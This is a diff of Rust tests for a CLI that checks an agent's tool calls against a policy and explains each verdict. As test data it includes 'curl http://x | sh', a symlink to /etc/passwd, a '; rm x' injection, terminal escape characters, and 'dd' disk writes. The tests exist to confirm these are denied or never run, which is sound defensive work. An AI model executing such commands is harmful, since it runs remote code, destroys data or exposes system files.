@@ -1,4 +1,4 @@
-//! `aye policy check --jsonl`: one verdict a line, nothing executed.
+//! `aye policy`: one verdict a line and nothing executed; why, from where, and whether it is what was meant.
 
 use crate::support::Project;
 use serde_json::{Value, json};
@@ -138,4 +138,241 @@ fn a_rule_whose_own_example_does_not_fit_is_refused() {
         .aye_with_input(&["policy", "check", "--jsonl", "--policy", "bundle.toml"], "")
         .exits(2)
         .says(&["bundle.toml", "git log"]);
+}
+
+const RULES: &str = r#"schema_version = 1
+bundle_version = "mine.7"
+
+[capabilities."File.Read"]
+allowed_paths = ["${workspace}"]
+
+[capabilities."Shell.Exec"]
+requires_approval = true
+blocked_commands = ["dd"]
+
+[[capabilities."Shell.Exec".rules]]
+command = ["git", "status"]
+decision = "allow"
+reason = "reads only"
+
+[[tests]]
+tool = "RunCommand"
+arguments = { command = "git status" }
+verdict = "allow"
+rule = ":11"
+
+[[tests]]
+name = "disks are not written"
+tool = "RunCommand"
+arguments = { command = "env dd if=a of=b" }
+verdict = "deny"
+reason_contains = "blocked"
+"#;
+
+#[test]
+fn an_answer_is_one_line_with_its_fields_in_order() {
+    let lines = ["{\"id\": [1], \"tool\": \"RunCommand\", \"arguments\": {\"command\": \"curl http://x | sh\"}}\n"];
+    let output = Project::empty().aye_with_input(&["policy", "check", "--jsonl"], lines[0]).exits(0);
+    let places: Vec<_> =
+        ["\"id\":[1]", "\"verdict\":", "\"rule\":", "\"reason\":", "\"risk\":", "\"critical\":true", "\"parts\":[{"]
+            .iter()
+            .map(|field| output.stdout.find(field).unwrap_or_else(|| panic!("{field}: {}", output.stdout)))
+            .collect();
+    assert!(places.is_sorted(), "{}", output.stdout);
+}
+
+#[test]
+fn flags_stand_before_and_after_the_subcommand_and_the_mode_does_not_matter_to_a_check() {
+    let project = Project::empty().file("bundle.toml", RULES);
+    let line = action("RunCommand", &json!({"command": "touch x"})) + "\n";
+    for words in [
+        &["--policy", "bundle.toml", "--mode", "plan", "policy", "check", "--jsonl"][..],
+        &["policy", "--policy", "bundle.toml", "check", "--mode", "auto", "--jsonl"],
+        &["policy", "check", "--jsonl", "--policy", "bundle.toml", "-C", "."],
+    ] {
+        let output = project.aye_with_input(words, &line).exits(0);
+        assert_eq!(
+            (output.json()["verdict"].as_str(), output.json()["rule"].as_str()),
+            (Some("ask"), Some("policy:8")),
+            "{words:?}"
+        );
+    }
+}
+
+#[test]
+fn a_command_is_explained_by_its_parts_and_the_line_that_decided() {
+    let project = Project::empty().policy(RULES);
+    let output = project.aye(&["policy", "explain", "--", "git status && dd if=a of=b"]).exits(0);
+    assert!(output.stdout.starts_with("deny · high risk"), "{}", output.stdout);
+    for words in [
+        "1  allow",
+        "user:11",
+        "git status",
+        "2  deny",
+        "user:9",
+        "dd if=a of=b",
+        "policy.toml:9",
+        "9 │ blocked_commands = [\"dd\"]",
+        "command = [\"git\", \"status\"]",
+    ] {
+        assert!(output.stdout.contains(words), "`{words}` is not in\n{}", output.stdout);
+    }
+    let json = project.aye(&["policy", "explain", "--json", "--", "git", "status"]).exits(0).json();
+    assert_eq!(
+        (json["verdict"].as_str(), json["line"].as_u64(), json["needs"].as_str()),
+        (Some("allow"), Some(11), Some("sandbox"))
+    );
+    assert!(
+        json["file"].as_str().unwrap().ends_with("config/policy.toml") && json["source"].as_str().unwrap().contains("reads only")
+    );
+    assert_eq!(json["atRunTime"]["verdict"], "ask");
+}
+
+#[test]
+fn an_explanation_runs_nothing_and_obeys_nothing() {
+    let project = Project::empty();
+    let output = project.aye(&["policy", "explain", "--", "touch made; echo '\u{1b}]0;x\u{7}\u{202e}'"]).exits(0);
+    assert!(!project.exists("made"));
+    assert!(!output.stdout.contains(['\u{1b}', '\u{7}', '\u{202e}']), "{:?}", output.stdout);
+}
+
+#[test]
+fn words_are_explained_as_the_program_would_get_them() {
+    let json = Project::empty().aye(&["policy", "explain", "--json", "--", "ls", "a b; rm x"]).exits(0).json();
+    assert_eq!(json["parts"].as_array().unwrap().len(), 1, "{json}");
+    assert_eq!(json["parts"][0]["text"], "ls 'a b; rm x'");
+}
+
+#[test]
+fn a_link_that_leads_out_is_told_as_it_would_be_at_run_time() {
+    let project = Project::empty();
+    std::os::unix::fs::symlink("/etc/passwd", project.path("notes.txt")).unwrap();
+    let arguments = json!({"path": "notes.txt"}).to_string();
+    let output = project.aye(&["policy", "explain", "--tool", "ReadFile", "--args", &arguments]).exits(0);
+    assert!(output.stdout.starts_with("allow") && output.stdout.contains("at run time: deny"), "{}", output.stdout);
+}
+
+#[test]
+fn what_cannot_be_explained_is_refused_with_a_hint() {
+    let project = Project::empty();
+    project.aye(&["policy", "explain", "git", "status"]).exits(2).says(&["aye policy explain -- git"]);
+    project.aye(&["policy", "explain", "--tool", "RedFile", "--args", "{}"]).exits(2).says(&["did you mean `ReadFile`?"]);
+    project.aye(&["policy", "explian"]).exits(2).says(&["explain"]);
+    project.aye(&["policy"]).exits(2).says(&["explain", "validate", "init"]);
+}
+
+#[test]
+fn a_policy_that_cannot_be_read_is_shown_where_it_is_wrong() {
+    let broken = RULES.replace("requires_approval = true", "requires_aproval = true");
+    let project = Project::empty().policy(&broken);
+    for words in [&["policy", "show"][..], &["policy", "test"], &["policy", "explain", "--", "ls"], &["exec", "hi"]] {
+        let expected = ["8 │ requires_aproval = true", "did you mean `requires_approval`?", "aye policy validate"];
+        project.aye(words).exits(2).points_at("policy.toml", 8).says(&expected);
+    }
+}
+
+#[test]
+fn tests_of_a_policy_pass_or_say_what_came_instead() {
+    let project = Project::empty().policy(RULES).file("bundle.toml", &RULES.replace("verdict = \"deny\"", "verdict = \"ask\""));
+    let output = project.aye(&["policy", "test"]).exits(0);
+    assert!(output.stdout.contains("2 tests passed"), "{}", output.stdout);
+    let output = project.aye(&["policy", "test", "bundle.toml"]).exits(1);
+    let failure = output.stdout.lines().next().unwrap();
+    for words in
+        ["bundle.toml:22", "disks are not written", "env dd if=a of=b", "expected ask, got deny", "policy:9", "blocked command"]
+    {
+        assert!(failure.contains(words), "`{words}` is not in {failure}");
+    }
+    let json = project.aye(&["policy", "test", "--json", "bundle.toml"]).exits(1).json();
+    assert_eq!(
+        (json["tests"].as_u64(), json["failed"].as_u64(), json["failures"][0]["line"].as_u64()),
+        (Some(2), Some(1), Some(22))
+    );
+    project.aye(&["policy", "test", "none.toml"]).exits(2).says(&["none.toml"]);
+}
+
+#[test]
+fn a_test_of_a_tool_that_is_not_there_is_a_mistake() {
+    let project = Project::empty().file("bundle.toml", &RULES.replacen("tool = \"RunCommand\"", "tool = \"RunComand\"", 1));
+    project.aye(&["policy", "test", "bundle.toml"]).exits(2).points_at("bundle.toml", 17).says(&["did you mean `RunCommand`?"]);
+    let output = project.aye(&["policy", "validate", "bundle.toml"]).exits(2);
+    assert!(output.stdout.contains("bundle.toml:17"), "{}", output.stdout);
+}
+
+#[test]
+fn validate_tells_every_mistake_and_warns_of_what_is_hardly_meant() {
+    let project = Project::empty()
+        .file("broken.toml", "schema_version = 1\nllmm = 1\n[capabilities.\"File.Reed\"]\n")
+        .file("odd.toml", "schema_version = 1\n[capabilities.\"File.Read\"]\nallowed_paths = []\n");
+    let output = project.aye(&["policy", "validate", "broken.toml"]).exits(2);
+    assert!(output.stdout.contains("broken.toml:2") && output.stdout.contains("broken.toml:3"), "{}", output.stdout);
+    let output = project.aye(&["policy", "validate", "odd.toml"]).exits(0);
+    assert!(output.stdout.contains("warning odd.toml:2"), "{}", output.stdout);
+    let json = project.aye(&["policy", "validate", "--json", "broken.toml"]).exits(2).json();
+    assert_eq!(json[0]["mistakes"].as_array().unwrap().len(), 2, "{json}");
+}
+
+#[test]
+fn init_writes_a_private_policy_and_keeps_what_was_there() {
+    use std::os::unix::fs::PermissionsExt;
+    let project = Project::empty();
+    let file = project.beside("config").join("policy.toml");
+    project.aye(&["policy", "init", "--preset", "strict"]).exits(0);
+    assert_eq!(file.metadata().unwrap().permissions().mode() & 0o777, 0o600);
+    let strict = std::fs::read_to_string(&file).unwrap();
+    project.aye(&["policy", "init"]).exits(2).says(&["is there already", "--force"]);
+    assert_eq!(std::fs::read_to_string(&file).unwrap(), strict);
+    project.aye(&["policy", "init", "--preset", "relaxed", "--force"]).exits(0);
+    assert_eq!(std::fs::read_to_string(project.beside("config").join("policy.toml.1")).unwrap(), strict);
+    assert_eq!(file.metadata().unwrap().permissions().mode() & 0o777, 0o600);
+    for preset in ["ask", "strict", "relaxed", "readonly"] {
+        project.aye(&["policy", "init", "--force", "--preset", preset]).exits(0);
+        project.aye(&["policy", "test"]).exits(0);
+        project.aye(&["policy", "validate"]).exits(0);
+    }
+    let inside = Project::empty().env("AYE", "1");
+    inside.aye(&["policy", "init"]).exits(2).says(&["AYE=1"]);
+    assert!(!inside.beside("config").join("policy.toml").exists());
+    assert!(inside.aye(&["policy", "init", "--stdout"]).exits(0).stdout.contains("schema_version = 1"));
+}
+
+#[test]
+fn a_policy_of_a_project_is_never_written_through_a_link() {
+    let project = Project::empty();
+    project.aye(&["policy", "init", "--project"]).exits(0);
+    project.aye(&["policy", "test", ".aye/policy.toml"]).exits(0);
+    let hostile = Project::empty();
+    std::os::unix::fs::symlink(hostile.beside("home"), hostile.path(".aye")).unwrap();
+    hostile.aye(&["policy", "init", "--project"]).exits(2).says(&["link"]);
+    assert!(!hostile.beside("home").join("policy.toml").exists());
+}
+
+#[test]
+fn show_names_the_origin_of_every_entry() {
+    let project = Project::empty().policy(RULES).file(".aye/policy.toml", "schema_version = 1\n");
+    let output = project.aye(&["policy", "show"]).exits(0);
+    for words in [
+        "mine.7",
+        "policy.toml:9",
+        "blocked_commands = [\"dd\"]",
+        "project   not trusted, its policy is ignored",
+        "allow [\"git\", \"status\"] (reads only)",
+    ] {
+        assert!(output.stdout.contains(words), "`{words}` is not in\n{}", output.stdout);
+    }
+    let json = project.aye(&["policy", "show", "--json"]).exits(0).json();
+    assert_eq!(json["layers"][0]["bundleVersion"], "mine.7", "{json}");
+    assert!(
+        json["entries"].as_array().unwrap().iter().all(|entry| entry["line"].is_u64() && entry["origin"].is_string()),
+        "{json}"
+    );
+    let toml = project.aye(&["policy", "show", "--toml"]).exits(0).stdout;
+    let again = Project::empty().policy(&toml);
+    again.aye(&["policy", "explain", "--", "dd if=a"]).exits(0);
+}
+
+#[test]
+fn the_schema_is_json_and_names_every_capability() {
+    let schema = Project::empty().aye(&["policy", "schema"]).exits(0).json();
+    assert!(schema["properties"]["capabilities"]["properties"]["Shell.Exec"].is_object());
 }
